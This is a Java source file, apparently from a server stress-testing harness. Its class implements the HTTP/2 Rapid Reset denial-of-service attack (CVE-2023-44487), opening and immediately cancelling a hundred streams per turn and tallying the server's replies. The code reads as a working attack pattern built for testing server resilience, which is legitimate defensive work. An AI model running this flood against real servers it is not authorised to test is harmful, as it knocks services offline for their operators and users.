package dev.pintle.bench.siege;

import java.nio.ByteBuffer;

/** Asks over HTTP/2, and resets the stream at once, a hundred times a turn (CVE-2023-44487). */
final class RapidReset extends Hostile {
  private static final int STREAMS = 100;
  private static final byte[] CANCEL = {0, 0, 0, 8};

  private final RecordScan replies = Http2Frames.scan();
  private int stream = 1;

  @Override
  Move next() {
    Http2Frames frames = new Http2Frames();
    if (stream == 1) {
      frames.preface();
    }
    int flags = Http2Frames.END_STREAM | Http2Frames.END_HEADERS;
    for (int i = 0; i < STREAMS; i++) {
      frames.add(Http2Frames.HEADERS, flags, stream, Http2Frames.GET_LINE);
      frames.add(Http2Frames.RST_STREAM, 0, stream, CANCEL);
      stream += 2;
    }
    return Move.send(frames.bytes(), STREAMS);
  }

  @Override
  void received(ByteBuffer bytes, Tally tally) {
    replies.read(bytes, tally);
  }
}
